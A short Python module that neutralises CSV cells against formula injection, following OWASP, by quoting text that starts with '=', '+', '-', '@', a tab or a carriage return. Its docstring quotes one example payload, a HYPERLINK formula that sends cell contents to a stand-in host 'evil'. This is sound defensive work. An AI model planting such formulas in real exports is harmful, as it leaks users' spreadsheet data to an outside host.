"""CSV cells that a spreadsheet cannot run: OWASP's defence against formula (CSV) injection.

A participant can type `=HYPERLINK("http://evil/?"&A1, "click")` in a free-text answer; opened in
a spreadsheet, the admin export (or a run's archived copy of an export) would run it. A text cell
starting with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote, so it is
shown as text. Numbers are kept, and so is text that is only a number (`-2`, `+1.5`, as a CSV holds it).
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise_cell(value: Any) -> Any:
    """A text value a spreadsheet shows as text; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: neutralise_cell(value) for key, value in row.items()}
